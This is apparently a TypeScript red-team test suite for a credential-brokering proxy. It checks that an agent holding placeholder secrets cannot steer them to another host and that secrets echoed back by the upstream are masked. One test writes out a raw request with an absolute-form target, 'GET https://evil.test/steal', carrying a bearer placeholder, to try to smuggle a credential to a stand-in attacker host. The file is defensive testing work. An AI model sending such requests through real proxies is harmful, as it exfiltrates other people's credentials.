/**
 * Red team: the broker's wire, attacked by an agent that holds placeholders and speaks raw
 * HTTP inside the tunnel it is given. Real Vault API, real HTTPS upstream (one server for
 * several names, as a CDN front is), the broker's real proxy.
 */
import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { createServer, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import { connect as tlsConnect } from 'node:tls';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Broker, startBroker } from '../../src/broker/broker.js';
import { Vault } from '../../src/sdk/index.js';
import { issueCa, issueServing } from '../../src/webhook/certs.js';
import { startTestVault, type TestVault } from '../support/test-vault.js';

const value = `sk_live_${randomBytes(12).toString('hex')}`;
const agent = { type: 'agent' as const, name: 'claude-code' };

/**
 * A front for several hosts: it routes by the absolute-form request target when there is one
 * (RFC 9112 §3.2.2: the Host header is then ignored), else by Host. `/store` keeps what the
 * request carried in Authorization; `/fetch` (no credential needed) returns it.
 */
interface Front {
  port: number;
  caPem: string;
  received: Array<{ routedTo: string; url: string; authorization: string }>;
  close(): Promise<void>;
}

async function startFront(hosts: string[]): Promise<Front> {
  const ca = await issueCa(1);
  const serving = await issueServing(ca, { dnsNames: hosts, ipAddresses: [], servingValidityDays: 1 });
  const received: Front['received'] = [];
  let stored = '';
  const server: Server = createServer({ cert: serving.certPem, key: serving.keyPem }, (req, res) => {
    const url = req.url ?? '/';
    const routedTo = url.startsWith('/') ? String(req.headers.host) : new URL(url).host;
    const authorization = String(req.headers.authorization ?? '');
    received.push({ routedTo, url, authorization });
    const path = url.startsWith('/') ? url : new URL(url).pathname;
    if (path === '/store') stored = authorization;
    res.writeHead(200, { 'content-type': 'text/plain' });
    res.end(path === '/fetch' ? `stored: ${stored}\n` : `ok ${routedTo}\n`);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.address() as AddressInfo).port,
    caPem: ca.certPem,
    received,
    async close() {
      server.closeAllConnections();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
}

/** CONNECT through the proxy, then one raw request (bytes as given) inside TLS; the response text. */
function rawInTunnel(options: {
  broker: Broker;
  target: string;
  caPem: string;
  request: string;
}): Promise<string> {
  const auth = new URL(options.broker.proxyUrl);
  return new Promise((resolve, reject) => {
    const connectReq = httpRequest({
      host: '127.0.0.1',
      port: options.broker.port,
      method: 'CONNECT',
      path: options.target,
      headers: {
        'proxy-authorization': `Basic ${Buffer.from(`vault:${auth.password}`).toString('base64')}`,
      },
    });
    connectReq.once('error', reject);
    connectReq.once('connect', (res, socket) => {
      if (res.statusCode !== 200) return resolve(`CONNECT ${res.statusCode}`);
      const tls = tlsConnect({ socket, servername: options.target.split(':')[0], ca: options.caPem }, () =>
        tls.write(options.request),
      );
      let text = '';
      tls.on('data', (chunk: Buffer) => {
        text += chunk.toString('latin1');
      });
      const done = () => resolve(text);
      tls.once('end', done);
      tls.once('close', done);
      tls.once('error', done);
      setTimeout(() => tls.destroy(), 3000);
    });
    connectReq.end();
  });
}

describe('red team: the broker on the wire', () => {
  let vault: TestVault;
  let front: Front;
  let brokerVault: Vault;
  let broker: Broker;
  const named = () => `api.stripe.test:${front.port}`;
  const elsewhere = () => `evil.test:${front.port}`;

  beforeAll(async () => {
    vault = await startTestVault();
    front = await startFront(['api.stripe.test', 'evil.test']);
    const created = await vault.call('POST', '/v1/credentials', {
      body: { name: 'stripe-api-key', type: 'api-key', value, metadata: { hosts: named() } },
    });
    expect(created.status, created.text).toBe(201);
    const policy = await vault.call('PUT', '/v1/policies/broker', {
      body: { rules: [{ actions: ['read-metadata', 'lease'] }], actFor: [{ type: 'agent', name: '*' }] },
    });
    expect(policy.status, policy.text).toBe(200);
    const token = await vault.tokenFor({ type: 'workload', name: 'vault-broker' }, ['broker']);
    brokerVault = await Vault.connect({ addr: vault.url, token, tenant: vault.tenant });
    broker = await startBroker({
      vault: brokerVault,
      agent,
      uses: [{ credential: 'stripe-api-key' }],
      ttl: '10m',
      clock: () => new Date(),
      upstream: { ca: front.caPem, connectTo: (t) => ({ host: '127.0.0.1', port: t.port }) },
    });
  });
  afterAll(async () => {
    await broker?.close();
    await front?.close();
    await vault?.close();
  });

  it('an absolute-form request target naming another host never carries the value there', async () => {
    const placeholder = broker.credentials[0]!.placeholder;
    const before = front.received.length;
    const response = await rawInTunnel({
      broker,
      target: named(),
      caPem: readFileSync(broker.caFile, 'utf8'),
      request:
        `GET https://${elsewhere()}/steal HTTP/1.1\r\nHost: ${named()}\r\n` +
        `Authorization: Bearer ${placeholder}\r\nConnection: close\r\n\r\n`,
    });
    const got = front.received.slice(before);
    // Whatever the broker answers, no request routed to another host carries the value.
    expect(got.filter((r) => r.routedTo !== named() && r.authorization.includes(value))).toEqual([]);
    expect(got.filter((r) => !r.url.startsWith('/'))).toEqual([]);
    expect(response).toMatch(/^HTTP\/1\.1 400/);
    expect(response.toLowerCase()).toContain('x-vault-broker: bad_request');
  });

  it('a value the named host stored and hands back to a request without a placeholder is stripped', async () => {
    const placeholder = broker.credentials[0]!.placeholder;
    const caPem = readFileSync(broker.caFile, 'utf8');
    const stored = await rawInTunnel({
      broker,
      target: named(),
      caPem,
      request: `GET /store HTTP/1.1\r\nHost: ${named()}\r\nAuthorization: Bearer ${placeholder}\r\nConnection: close\r\n\r\n`,
    });
    expect(stored).toMatch(/^HTTP\/1\.1 200/);
    expect(front.received.at(-1)!.authorization).toBe(`Bearer ${value}`);
    const fetched = await rawInTunnel({
      broker,
      target: named(),
      caPem,
      request: `GET /fetch HTTP/1.1\r\nHost: ${named()}\r\nConnection: close\r\n\r\n`,
    });
    expect(fetched).toMatch(/^HTTP\/1\.1 200/);
    expect(fetched).not.toContain(value);
    expect(fetched).toContain(`stored: Bearer ${placeholder}`);
  });
});
